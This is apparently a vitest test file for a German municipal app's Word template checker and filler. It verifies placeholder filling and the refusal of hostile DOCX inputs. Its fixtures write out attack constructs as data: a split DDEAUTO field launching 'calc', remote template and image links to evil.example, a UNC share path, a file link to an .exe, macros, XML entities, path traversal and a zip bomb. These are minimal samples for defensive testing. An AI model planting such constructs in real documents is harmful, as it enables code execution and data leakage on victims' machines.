import { texts } from '@kommune17/i18n/all-texts'
import { strToU8, unzipSync, zipSync } from 'fflate'
import { expect, it } from 'vitest'
import { part, wordText, xmlParts } from '../paper-text.ts'
import { elements } from '../xml-tree.ts'
import { checkTemplate } from './check-template.ts'
import { exampleTemplate } from './example-template.ts'
import { fillTemplate } from './fill-template.ts'
import { templateProblemText } from './template-problem.ts'
import { type TemplateData, templateVocabulary } from './template-vocabulary.ts'

const german = await exampleTemplate('de')
const files = unzipSync(german)
const png = Uint8Array.of(0x89, 0x50, 0x4e, 0x47)

const filled = (names: readonly string[], mark: string) =>
  Object.fromEntries(names.map((name) => [name, `${mark}${name}`]))

function dataWith(rows: number, overrides: Partial<Record<string, string>> = {}): TemplateData {
  const data: unknown = {
    fields: { ...filled(templateVocabulary.fields, '='), ...overrides },
    pictures: {
      ...Object.fromEntries(templateVocabulary.pictures.map((name) => [name, null])),
      logo: { png, width: 120, height: 60, alt: 'Wappen "Adler" <& Löwe>' },
    },
    lists: Object.fromEntries(
      templateVocabulary.lists.map(({ name, fields }) => [
        name,
        Array.from({ length: rows }, (_, at) => filled(fields, `${name}${at}.`)),
      ]),
    ),
  }
  return data as TemplateData
}

const documentWith = (...paragraphs: string[]) =>
  changed({
    'word/document.xml': `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:body>${paragraphs.join('')}</w:body></w:document>`,
  })
const text = (words: string) => `<w:p><w:r><w:t xml:space="preserve">${words}</w:t></w:r></w:p>`
const changed = (parts: Readonly<Record<string, string>>) =>
  zipSync({
    ...files,
    ...Object.fromEntries(Object.entries(parts).map(([name, xml]) => [name, strToU8(xml)])),
  })
const relations = (...all: string[]) =>
  changed({
    'word/_rels/document.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${all.join('')}</Relationships>`,
  })
const relation = (type: string, target: string, mode = 'External') =>
  `<Relationship Id="x" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/>`
const codes = async (docx: Uint8Array) => (await checkTemplate(docx)).map(({ code }) => code)
const textOf = (docx: Uint8Array) => wordText(part(xmlParts(docx), 'word/document.xml'))

it('offers an example in both languages that passes the check and uses names of every kind', async () => {
  expect(Buffer.compare(await exampleTemplate('de'), german)).toBe(0)
  for (const docx of [german, await exampleTemplate('en')]) expect(await checkTemplate(docx)).toEqual([])
  const used = [...textOf(german).matchAll(/\{#?([a-z_]+)\}/g)].map(([, name]) => name)
  for (const name of [...templateVocabulary.fields, ...templateVocabulary.pictures])
    expect(used).toContain(name)
})

it('fills words, table rows, lists, conditions and pictures, the same each time', async () => {
  const data = dataWith(2, { bewertung: '' })
  const docx = await fillTemplate(german, data)
  expect(Buffer.compare(docx, await fillTemplate(german, data))).toBe(0)
  const shown = textOf(docx)
  expect(shown).not.toMatch(/[{}]/)
  expect(shown).not.toContain('=bewertung')
  expect(shown).not.toContain(texts.de.papers.template.example.about)
  for (const words of ['=kommune', '=beschlussvorschlag', 'beschluesse1.datum']) {
    expect(shown).toContain(words)
  }
  const document = part(xmlParts(docx), 'word/document.xml')
  const tableRows = elements(document, 'w:tr').map(wordText)
  expect(tableRows.filter((row) => row.startsWith('massnahmen'))).toHaveLength(2)
  expect(tableRows.filter((row) => row.startsWith('ziele'))).toHaveLength(2)
  expect(elements(document, 'wp:docPr').map(({ attributes }) => attributes['descr'])).toEqual([
    'Wappen ”Adler” ‹+ Löwe›',
  ])
  expect(wordText(part(xmlParts(docx), 'word/footer1.xml'))).toContain('=kommune')
})

it('fills whatever text there is, once, and reaches nothing but the names', async () => {
  const hostile = '<w:p/>]]> {kommune} {#ziele} \u0000\ud800 🚲 مرحبا'
  const docx = await fillTemplate(german, dataWith(1, { titel: hostile, sachverhalt: 'x'.repeat(5_000) }))
  expect(textOf(docx)).toContain('<w:p/>]]> {kommune} {#ziele}  🚲 مرحبا')
  const names = documentWith(
    text('{constructor} {__proto__} {kommune.constructor} {Kommune} {#Maßnahmen}{TITEL}{/massnahmen}'),
  )
  expect(textOf(await fillTemplate(names, dataWith(1)))).toContain(
    '[constructor?] [__proto__?] [kommune.constructor?] =kommune massnahmen0.titel',
  )
})

it('names what is wrong with placeholders and what was probably meant', async () => {
  const check = async (...words: string[]) =>
    (await checkTemplate(documentWith(...words.map(text)))).map((problem) =>
      templateProblemText(problem, texts.de),
    )
  expect(await check('{komune} {#massnahmen}{nummer}{/massnahmen}')).toEqual([
    'Den Platzhalter {komune} gibt es nicht. Meinten Sie {kommune}?',
  ])
  expect(await check('{xyzxyzxyz}')).toEqual(['Den Platzhalter {xyzxyzxyz} gibt es nicht.'])
  expect(await check('{fortschritt}')).toEqual([
    'Der Platzhalter {fortschritt} steht nur zwischen {#massnahmen} und {/massnahmen} für etwas.',
  ])
  expect(await check('{#massnahmen}', '{nummer}')).toEqual(['Zu {#massnahmen} fehlt das Ende.'])
  expect(await check('{/ziele}')).toEqual(['Zu {/ziele} fehlt der Anfang.'])
  expect((await check('{kommune'))[0]).toContain('Eine geschweifte Klammer steht allein')
  const split = '<w:p><w:r><w:t>{kom</w:t></w:r><w:r><w:t>mune}</w:t></w:r></w:p>'
  expect(await checkTemplate(documentWith(split))).toEqual([])
})

const field = (...instructions: string[]) =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${instructions
    .map((instruction) => `<w:r><w:instrText>${instruction}</w:instrText></w:r>`)
    .join('')}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
const begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'

it.each([
  [
    'an attached template',
    relations(relation('attachedTemplate', 'http://evil.example/x.dotm')),
    'loads-from-outside',
  ],
  ['a linked picture', relations(relation('image', 'https://evil.example/x.png')), 'loads-from-outside'],
  [
    'a linked picture on a share',
    relations(relation('image', '\\\\evil\\x.png', 'Internal')),
    'loads-from-outside',
  ],
  ['a link that runs something', relations(relation('hyperlink', 'file:///c:/x.exe')), 'loads-from-outside'],
  [
    'a picture loaded by VML',
    documentWith('<v:imagedata src="http://evil.example/x.png"/>'),
    'loads-from-outside',
  ],
  [
    'a mail merge',
    changed({ 'word/settings.xml': '<w:settings xmlns:w="w"><w:mailMerge/></w:settings>' }),
    'loads-from-outside',
  ],
  ['foreign content', relations(relation('aFChunk', 'x.html', 'Internal')), 'embedded-object'],
  ['an OLE object', relations(relation('oleObject', 'embeddings/x.bin', 'Internal')), 'embedded-object'],
  ['an add-in', changed({ 'word/webextensions/taskpanes.xml': '<a/>' }), 'embedded-object'],
  ['foreign content without a relation', documentWith('<w:altChunk r:id="x"/>'), 'embedded-object'],
  ['macros', changed({ 'word/vbaProject.bin': 'x' }), 'macros'],
  [
    'macros by type',
    changed({
      'a.xml': '<Override xmlns="x" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
    }),
    'macros',
  ],
  ['INCLUDETEXT', documentWith(field('INCLUDETEXT "c:\\\\x.docx"')), 'field-refused'],
  ['a split DDEAUTO', documentWith(field('DDE', 'AUTO c:\\\\x "/k calc"')), 'field-refused'],
  [
    'a field in a field',
    documentWith(
      `<w:p>${begin}<w:r><w:instrText>HYPERLINK </w:instrText></w:r>${field('QUOTE 68 68 69')}</w:p>`,
    ),
    'field-refused',
  ],
  [
    'a simple field',
    documentWith('<w:p><w:fldSimple w:instr=" INCLUDEPICTURE http://x "/></w:p>'),
    'field-refused',
  ],
  [
    'a field without an end',
    documentWith(`<w:p>${begin}<w:r><w:instrText>LINK x</w:instrText></w:r></w:p>`),
    'field-refused',
  ],
  ['a hyperlink field to a file', documentWith(field('HYPERLINK "file:///c:/x"')), 'field-refused'],
  ['a DOCTYPE', changed({ 'word/document.xml': '<!DOCTYPE a [<!ENTITY b "c">]><a/>' }), 'unsafe-xml'],
  [
    'an instruction to a program',
    changed({ 'word/document.xml': '<?xml-stylesheet href="x"?><a/>' }),
    'unsafe-xml',
  ],
  ['broken XML', changed({ 'word/document.xml': '<a><b></a>' }), 'broken'],
  ['endless depth', changed({ 'word/document.xml': '<a>'.repeat(100_000) }), 'broken'],
  ['a path out of the package', changed({ '../evil.xml': '<a/>' }), 'broken'],
  ['a spreadsheet', zipSync({ '[Content_Types].xml': strToU8('<a/>') }), 'no-docx'],
  ['no package', strToU8('%PDF-1.7'), 'no-docx'],
  ['half a package', german.subarray(0, german.length / 2), 'broken'],
  ['too many bytes', new Uint8Array(11 * 1024 * 1024), 'too-large'],
  [
    'a bomb',
    zipSync({ ...files, 'word/media/x.png': new Uint8Array(64 * 1024 * 1024) }, { level: 1 }),
    'unpacks-too-large',
  ],
])('refuses %s and never fills it', async (_, docx, code) => {
  expect(await codes(docx)).toContain(code)
  await expect(fillTemplate(docx, dataWith(1))).rejects.toThrow(/^file-/)
})

it('lets through what letterheads have: page numbers, contents, links to the web', async () => {
  const docx = documentWith(
    field(' PAGE '),
    field(' TOC \\o "1-3" \\h '),
    field(' HYPERLINK "https://www.example.org" '),
  )
  expect(await checkTemplate(docx)).toEqual([])
  expect(await codes(relations(relation('hyperlink', 'https://www.example.org')))).toEqual([])
})
